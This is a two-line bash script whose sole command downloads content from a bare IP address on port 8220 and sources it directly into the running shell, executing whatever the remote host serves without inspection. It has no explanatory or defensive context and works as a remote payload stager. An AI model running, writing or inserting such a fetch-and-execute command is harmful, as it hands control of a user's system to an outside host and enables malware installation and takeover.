#!/bin/bash
source <(curl -s http://203.0.113.7:8220/m)
